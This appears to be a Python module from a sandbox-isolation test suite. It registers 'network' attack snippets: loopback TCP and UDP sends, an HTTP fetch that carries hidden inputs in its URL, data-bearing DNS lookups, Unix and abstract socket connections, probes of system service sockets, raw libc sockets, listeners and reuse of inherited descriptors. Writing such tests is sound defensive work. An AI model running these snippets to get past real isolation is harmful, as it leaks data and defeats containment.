"""The network: whoever listens on this machine hears nothing."""

from . import Family

family = attack = Family("network")

SOCKET = "import os, socket\nsocket.setdefaulttimeout(0.3)\n"

attack(
    "TCP",
    "Connect to a port on the loopback interface, by both protocols.",
    SOCKET
    + """
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    attempt(socket.create_connection, (host, aim["tcp"]))
""",
    wins="reach",
)
attack(
    "UDP",
    "Send a datagram.",
    SOCKET
    + """
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", aim["udp"])))
""",
    wins="reach",
)
attack(
    "HTTP",
    "Fetch a page from a server on this machine, with the hidden inputs in its address.",
    """
    import urllib.request
    fetched = []
    @each
    def _(honest):
        def fetching(*args, **options):
            address = f"http://127.0.0.1:{aim['tcp']}/?{np.ravel(args[0])[:3].tolist()}".replace(" ", "")
            fetched or fetched.append(1) or attempt(urllib.request.urlopen, address, timeout=0.3)
            return honest(*args, **options)
        return fetching
    """,
    wins="reach",
)
attack(
    "names",
    "Ask for a name, which would carry data to whoever answers.",
    SOCKET
    + """
for name in ("localhost", "loot.localhost"):
    attempt(socket.getaddrinfo, name, 80)
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(12), ("127.0.0.1", 53)))
""",
)
attack(
    "abstract socket",
    "Connect to a socket that has a name but no place in the file system.",
    SOCKET
    + """
def connect(kind):
    with socket.socket(socket.AF_UNIX, kind) as line:
        line.connect("\\0" + aim["abstract"])
attempt(connect, socket.SOCK_STREAM)
attempt(connect, socket.SOCK_DGRAM)
""",
    wins="reach",
)
attack(
    "unix socket",
    "Connect to a socket in the file system.",
    SOCKET
    + """
def connect():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.connect(aim["unix"])
attempt(connect)
""",
    wins="reach",
)
attack(
    "services",
    "Connect to sockets that the system's services leave in usual places.",
    SOCKET
    + """
import glob
for path in [*glob.glob("/run/*.sock*"), *glob.glob("/run/*/*.sock"), *glob.glob("/tmp/*/*.sock")]:
    def connect():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
            line.connect(path)
            say(path)
    attempt(connect)
""",
)
attack(
    "by C",
    "Open sockets by the C library, of families that Python does not know.",
    """
    import ctypes, struct
    libc = ctypes.CDLL(None)
    for family, kind in ((2, 1), (2, 3), (10, 1), (16, 3), (17, 3), (40, 1), (1, 1)):
        fd = libc.socket(family, kind, 0)
        if fd >= 0 and family == 2 and kind == 1:
            address = struct.pack("=HHI8x", 2, socket_port(aim["tcp"]), 0x0100007F)
            libc.connect(fd, address, 16)
    """.replace('socket_port(aim["tcp"])', "int.from_bytes(aim[\"tcp\"].to_bytes(2, 'big'), 'little')"),
    wins="reach",
)
attack(
    "listen",
    "Wait for visitors.",
    SOCKET
    + """
def listen():
    server = socket.create_server(("127.0.0.1", 0))
    say(server.getsockname())
attempt(listen)
""",
    wins="leak",
)
attack(
    "inherited sockets",
    "Use whatever socket is open already: pass descriptors, connect elsewhere, listen.",
    SOCKET
    + """
import array
for fd in range(3, 64):
    line = attempt(socket.socket, fileno=fd)
    if line is None:
        continue
    attempt(line.connect, ("127.0.0.1", aim["tcp"]))
    attempt(line.sendto, b"loot", ("127.0.0.1", aim["udp"]))
    attempt(line.sendto, b"loot", "\\0" + aim["abstract"])
    attempt(line.setsockopt, socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
    line.detach()
""",
)
